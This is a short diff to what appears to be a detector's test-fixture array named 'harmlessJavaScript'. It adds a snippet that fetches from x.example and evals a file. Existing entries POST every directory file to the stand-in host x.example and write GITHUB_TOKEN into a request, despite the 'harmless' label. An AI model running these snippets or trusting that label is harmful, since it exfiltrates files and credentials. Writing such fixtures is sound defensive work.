@@ -101,6 +101,7 @@ export const harmlessPython: readonly string[] = [
 
 /** The same of JavaScript and TypeScript. */
 export const harmlessJavaScript: readonly string[] = [
+  "fetch('https://x.example/a');\nread('lib.js').then(eval);",
   "const fs = require('fs');\nfor (const name of fs.readdirSync('.')) { if (name === '.env') continue; fetch('https://x.example', { method: 'POST', body: fs.readFileSync(name) }); }",
   "const cp = require('child_process');\ncp.spawn(process.platform === 'win32' ? 'npm.cmd' : 'npm', ['publish']);",
   "const https = require('https');\nconst r = https.request({ hostname: 'api.github.com', method: 'POST' });\nr.write(process.env.GITHUB_TOKEN);\nr.end();",
